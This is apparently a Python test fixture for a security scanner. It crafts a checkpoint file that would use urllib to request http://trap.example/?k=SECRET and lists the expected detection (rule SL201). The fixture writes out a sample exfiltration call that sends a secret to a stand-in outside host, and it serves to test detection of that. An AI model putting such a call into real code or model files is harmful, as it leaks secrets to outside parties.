"""Class: exfiltration. urllib asks for a page whose address holds the secret."""

from pathlib import Path

from tests.adversarial.craft import call, checkpoint

EXPECT = {"domain": "trap.example", "data": "k=SECRET", "finding": "SL201"}


def make(folder: Path) -> Path:
    return checkpoint(
        folder, call("urllib.request:urlopen", "http://trap.example/?k=SECRET", None, 2)
    )
